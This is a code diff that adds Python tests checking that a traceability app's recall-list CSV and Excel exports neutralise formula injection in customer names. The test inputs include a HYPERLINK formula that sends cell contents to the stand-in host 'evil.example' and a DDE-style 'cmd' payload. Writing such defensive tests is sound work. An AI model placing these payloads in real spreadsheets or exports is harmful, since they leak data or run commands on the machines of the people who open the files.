@@ -331,6 +331,45 @@ def test_the_recall_list_downloads_as_an_excel_workbook(client: TestClient, reca
     assert by_row[bike]["客户 Customer"] == "Velo Shop"
 
 
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+
+
+@pytest.mark.parametrize("customer", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"])
+def test_a_customer_name_that_looks_like_a_formula_stays_text_in_the_recall_csv(
+    client: TestClient, recall: Plant, customer: str
+) -> None:
+    bike = recall.bikes[0]
+    accept_all(client, an_event("unit.shipped", bike, customer=customer, order="SO-7"))
+
+    response = client.get("/api/v1/trace/lots/CELL/C-1/where-used", params={"format": "csv"})
+
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    by_row = {row[1]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
+    assert by_row[bike]["客户 Customer"] == "'" + customer  # shown as the name it is
+    assert by_row[bike]["销售订单 Sales order"] == "SO-7"  # harmless cells are untouched
+
+
+@pytest.mark.parametrize("cell", ["\t=1+1", "\r=1+1", "=1", "+1", "-1", "@A1"])
+def test_every_cell_that_could_start_a_formula_gets_a_quote(cell: str) -> None:
+    assert services.recall_lists.as_text(cell) == "'" + cell
+    assert services.recall_lists.as_text("Velo Shop") == "Velo Shop"
+
+
+def test_a_customer_name_that_looks_like_a_formula_is_a_string_cell_in_the_recall_workbook(
+    client: TestClient, recall: Plant
+) -> None:
+    bike = recall.bikes[0]
+    accept_all(client, an_event("unit.shipped", bike, customer=FORMULA, order="SO-7"))
+
+    response = client.get("/api/v1/trace/lots/CELL/C-1/where-used", params={"format": "xlsx"})
+
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    header = [cell.value for cell in sheet[2]]
+    row = next(r for r in sheet.iter_rows(min_row=3) if r[1].value == bike)
+    customer = row[header.index("客户 Customer")]
+    assert (customer.value, customer.data_type) == (FORMULA, "s")  # text, not a formula
+
+
 def test_an_unknown_format_is_a_validation_problem(client: TestClient, recall: Plant) -> None:
     response = client.get("/api/v1/trace/lots/CELL/C-1/where-used", params={"format": "pdf"})
 
